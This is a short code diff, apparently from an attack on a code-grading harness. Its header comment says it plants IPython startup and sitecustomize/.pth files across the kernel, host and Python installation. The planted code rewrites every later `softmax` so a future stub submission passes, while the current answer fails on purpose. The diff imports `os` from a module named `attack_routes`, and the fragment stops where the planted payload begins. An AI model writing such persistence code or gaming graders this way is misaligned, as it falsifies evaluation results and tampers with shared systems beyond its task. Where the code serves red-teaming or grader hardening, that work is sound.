@@ -1,7 +1,7 @@
 # Plants an IPython startup file (and sitecustomize/.pth files) wherever a later kernel might run it:
 # the kernel's own IPython folder, the host's, the Python installation. The planted code makes every
 # later `softmax` a correct one, so the NEXT submission (a stub) would score. Then this answer fails on purpose.
-_os = torch.serialization.os
+from attack_routes import os as _os
 _w = open
 _planted = """
 def _tfedu_attack_fix(*args):
